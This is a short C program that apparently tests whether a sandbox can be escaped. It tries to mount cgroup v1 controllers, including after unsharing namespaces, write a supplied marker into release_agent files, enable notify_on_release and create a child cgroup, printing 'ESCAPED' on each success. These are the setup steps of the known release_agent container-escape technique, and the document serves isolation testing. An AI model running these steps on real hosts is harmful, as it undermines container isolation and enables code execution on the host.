#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

static const char *const controllers[] = {"memory", "rdma", "pids", "cpu", "devices", "freezer"};

static void put(const char *path, const char *text) {
  int fd = open(path, O_WRONLY);
  if (fd < 0) return;
  if (write(fd, text, strlen(text)) > 0) printf("ESCAPED: wrote %s\n", path);
  close(fd);
}

int main(void) {
  char marker[128] = "", path[256];
  if (scanf("%*s %100s", marker) != 1) return 1;
  for (int with = 0; with < 2; with++) {
    if (with) unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP);
    for (int i = 0; i < 6; i++) {
      snprintf(path, sizeof path, "/tmp/%s", controllers[i]);
      mkdir(path, 0755);
      if (mount("cgroup", path, "cgroup", 0, controllers[i]) == 0) printf("ESCAPED: mounted %s\n", controllers[i]);
      snprintf(path, sizeof path, "/tmp/%s/release_agent", controllers[i]);
      put(path, marker);
      snprintf(path, sizeof path, "/sys/fs/cgroup/%s/release_agent", controllers[i]);
      put(path, marker);
      snprintf(path, sizeof path, "/sys/fs/cgroup/%s/notify_on_release", controllers[i]);
      put(path, "1");
      snprintf(path, sizeof path, "/sys/fs/cgroup/%s/below", controllers[i]);
      if (mkdir(path, 0755) == 0) puts("ESCAPED: made a control group");
    }
  }
  return 0;
}
